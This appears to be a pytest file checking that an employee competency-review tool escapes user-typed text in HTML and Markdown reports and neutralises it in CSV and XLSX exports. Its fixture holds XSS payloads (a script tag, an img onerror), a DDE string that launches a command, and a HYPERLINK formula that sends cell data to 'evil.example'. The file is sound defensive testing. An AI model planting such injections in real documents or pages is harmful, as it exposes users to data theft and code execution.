"""Text that people typed is shown, never run: escaped in HTML and Markdown, inert in CSV and XLSX."""

from __future__ import annotations

import importlib
import io
import json
from pathlib import Path

import openpyxl
import pytest

from competency.store.workspace import Workspace
from competency.workflow import reports as R
from competency.workflow.exports import export
from tests.reports._support import Person, Rater, build_cycle

SCRIPT = '<script>alert("owned")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
IMG = "<img src=x onerror=alert(1)>"
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    people = [
        Person("E100", "Boss", role="sales_supervisor"),
        Person("E101", FORMULA, manager_id="E100", department=DDE, region="-2+3"),
        Person("E102", IMG, manager_id="E100"),
        Person("E103", "Peer Three", manager_id="E100"),
        Person("E104", "Peer Four", manager_id="E100"),
    ]
    raters = {
        "E101": [
            Rater("E101", "self", 4),
            Rater("E100", "manager", 3, comment=FORMULA),
            Rater("E102", "peer", 3, comment=SCRIPT),
            Rater("E103", "peer", 2, comment="+1 great | *bold* [link](http://x)"),
            Rater("E104", "peer", 3),
        ]
    }
    path = build_cycle(tmp_path_factory.mktemp("hostile"), people, raters)
    calibrate = importlib.import_module("competency.workflow.calibrate") if importlib.util.find_spec("competency.workflow.calibrate") else None
    with Workspace(path) as workspace:
        computed = workspace.db.execute("SELECT rating FROM person_results WHERE employee_id = 'E101'").fetchone()[0]
        other = "A" if computed != "A" else "B"
        if calibrate is not None and hasattr(calibrate, "set_rating"):
            calibrate.set_rating(workspace, "E101", other, reason=DDE, by=FORMULA, cycle_id="2026-Q4")
        else:  # before calibration (issue 5): an override row as it stores them
            workspace.db.execute("INSERT INTO overrides VALUES (1, '2026-Q4', 'E101', ?, ?, ?, NULL, ?, now(), 'manual')", [computed, other, DDE, FORMULA])
    return path


def test_comments_and_names_are_escaped_in_html(hostile: Path, tmp_path: Path) -> None:
    with Workspace(hostile) as workspace:
        individual = R.report_individual(workspace, None, ["E101"], "html", "en", tmp_path)[0].read_text(encoding="utf-8")
        team = R.report_team(workspace, None, ["E100"], "html", "en", tmp_path)[0].read_text(encoding="utf-8")
        calibration = R.report_calibration(workspace, None, "html", "en", tmp_path)[0].read_text(encoding="utf-8")
    for html in (individual, team, calibration):
        assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&#34;owned&#34;)&lt;/script&gt;" in individual
    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1,&#34;click me&#34;)" in individual
    assert "&lt;img src=x onerror=alert(1)&gt;" in team
    assert "@SUM(1+1)*cmd|&#39; /C calc&#39;!A0" in individual  # the override reason, as text


def test_comments_and_names_are_escaped_in_markdown(hostile: Path, tmp_path: Path) -> None:
    """Markdown renderers pass HTML through, so `<` and `>` become entities; table pipes and markup are escaped."""
    with Workspace(hostile) as workspace:
        text = R.report_individual(workspace, None, ["E101"], "md", "en", tmp_path)[0].read_text(encoding="utf-8")
        team = R.report_team(workspace, None, ["E100"], "md", "en", tmp_path)[0].read_text(encoding="utf-8")
    assert "<script" not in text and "&lt;script&gt;" in text
    assert "+1 great \\| \\*bold\\* \\[link\\](http://x)" in text
    assert "<img" not in team and "&lt;img src=x onerror=alert(1)&gt;" in team


def test_formulas_are_inert_in_csv(hostile: Path) -> None:
    with Workspace(hostile) as workspace:
        _, ratings, _ = export(workspace, "ratings", None, "csv")
        _, audit, rows = export(workspace, "audit", None, "csv")
    assert ratings.startswith("\ufeff")
    assert f"'{FORMULA}".replace('"', '""') in ratings  # the name, quoted by csv and made inert
    assert f"'{DDE}" in ratings and ",'-2+3," in ratings  # department, region; and the override reason
    assert rows >= 1 and f"'{DDE}" in audit and f"'{FORMULA}".replace('"', '""') in audit  # reason, actor


def test_formulas_are_inert_in_xlsx(hostile: Path) -> None:
    with Workspace(hostile) as workspace:
        _, data, _ = export(workspace, "ratings", None, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "E101")
    cells = dict(zip(header, row))
    assert cells["name"].value == "'" + FORMULA and cells["name"].data_type == "s"
    assert cells["department"].value == "'" + DDE and cells["region"].value == "'-2+3"
    assert cells["override_reason"].value == "'" + DDE
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r), "a formula in the workbook"


def test_json_keeps_the_text_as_it_was_typed(hostile: Path) -> None:
    """JSON runs nothing: it carries the exact text for systems that read it."""
    with Workspace(hostile) as workspace:
        _, data, _ = export(workspace, "ratings", None, "json")
    assert next(r for r in json.loads(data) if r["employee_id"] == "E101")["name"] == FORMULA
